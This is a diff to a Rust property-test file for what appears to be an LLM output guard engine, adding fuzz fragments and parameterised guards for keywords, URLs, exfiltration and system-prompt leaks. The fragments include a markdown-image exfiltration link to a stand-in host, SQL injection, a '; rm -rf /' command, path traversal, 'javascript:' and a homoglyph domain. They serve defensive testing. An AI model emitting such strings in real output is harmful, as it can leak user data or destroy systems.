@@ -1,8 +1,12 @@
 //! What holds for every text: places are sound, previews give nothing away, redaction is final.
 
-use guardmesh_guard_engine::{Finding, redact};
-use proptest::prelude::*;
+use std::sync::LazyLock;
 
+use guardmesh_guard_engine::{Finding, Guard, redact};
+use proptest::prelude::*;
+use serde_json::json;
+
+use crate::cases::configured;
 use crate::engine;
 use crate::secrets::formats::{FORMATS, NAMED};
 use crate::tokens::Draw;
@@ -75,6 +79,32 @@ const PIECES: &[&str] = &[
     "…",
     "ß",
     "\0",
+    "![a](https://evil.test/?d={data})",
+    "[x]: //h.test/?q=%7B",
+    "](",
+    "<img src=",
+    "<a href='",
+    ">",
+    "url(",
+    "{",
+    "}",
+    "xn--",
+    "xn--80ak6aa92e.com",
+    "javascript:",
+    "%2e%2e%2f",
+    "' or '1'='1",
+    "; rm -rf /",
+    "$(",
+    "eval(x)",
+    "\"select a from b where c = \" + d",
+    "f'update t set a = {b}'",
+    "password = 'hunter2!'",
+    "verify=False",
+    "раypal",
+    "ABCD-12",
+    "zebra crossing",
+    "Ünïcode",
+    "you are the very model of a modern major general",
 ];
 
 pub(crate) fn texts() -> impl Strategy<Value = String> {
@@ -92,12 +122,42 @@ pub(crate) fn texts() -> impl Strategy<Value = String> {
     ]
 }
 
-pub(crate) fn all(text: &str) -> Vec<Finding> {
-    engine()
-        .guards()
-        .iter()
-        .flat_map(|guard| guard.scan(text))
-        .collect()
+/// Guards that find nothing without parameters, with some.
+static CONFIGURED: LazyLock<Vec<Guard>> = LazyLock::new(|| {
+    vec![
+        configured(
+            "keywords",
+            &json!({"ban": ["zebra", "ünïcode", "é", "日"], "allow": ["zebra crossing"]}),
+        ),
+        configured(
+            "keywords",
+            &json!({"ban": ["a", "É"], "whole_words": false, "exact": true}),
+        ),
+        configured(
+            "regex",
+            &json!({"patterns": ["[A-D]+-\\d", "\\w+\\s", "é|😀"]}),
+        ),
+        configured(
+            "urls",
+            &json!({"allow": ["y.de"], "deny": ["h"], "protect": ["acme.test"]}),
+        ),
+        configured("exfiltration", &json!({"only_allowed_images": true})),
+        configured("token_limit", &json!({"most": 3})),
+        configured(
+            "system_prompt_leak",
+            &json!({"prompts": ["You are the very model of a modern major general 日本"],
+                    "canaries": ["ABCD-1234é"], "least_words": 6}),
+        ),
+    ]
+});
+
+/// Every guard, and every one that takes parameters once more with some.
+fn every_guard() -> impl Iterator<Item = &'static Guard> {
+    engine().guards().iter().chain(CONFIGURED.iter())
+}
+
+fn all(text: &str) -> Vec<Finding> {
+    every_guard().flat_map(|guard| guard.scan(text)).collect()
 }
 
 /// Where redaction left its placeholders. What is open or holds anything but a rule id is not one.
@@ -131,7 +191,7 @@ proptest! {
 
     #[test]
     fn findings_are_sorted_and_the_same_each_time(text in texts()) {
-        for guard in engine().guards() {
+        for guard in every_guard() {
             let findings = guard.scan(&text);
             prop_assert!(findings.is_sorted_by_key(|finding| finding.span.start));
             prop_assert_eq!(findings, guard.scan(&text));
@@ -141,9 +201,12 @@ proptest! {
     #[test]
     fn previews_give_nothing_away(text in texts()) {
         for finding in all(&text) {
+            prop_assert!(finding.preview.chars().count() <= 64, "{:?}", finding);
+        }
+        // With parameters that ask for single letters, a fixed preview holds one by chance.
+        for finding in engine().guards().iter().flat_map(|guard| guard.scan(&text)) {
             let value = &text[finding.span.start..finding.span.end];
             prop_assert!(!finding.preview.contains(value), "{:?}", finding);
-            prop_assert!(finding.preview.chars().count() <= 64, "{:?}", finding);
         }
     }
 
@@ -192,6 +255,11 @@ fn a_document_of_tokens_is_clean_after_redaction() {
         .chain(NAMED)
         .map(|(_, template)| Draw::seeded(1).token(template) + "\nand then ")
         .collect();
+    let all = |text: &str| -> Vec<Finding> {
+        let guards = ["secrets", "pii", "invisible_text"].map(|id| engine().guard(id));
+        let guards = guards.into_iter().flatten();
+        guards.flat_map(|guard| guard.scan(text)).collect()
+    };
     let findings = all(&document);
     assert!(findings.len() >= FORMATS.len() + NAMED.len());
     let clean = redact(&document, &findings);
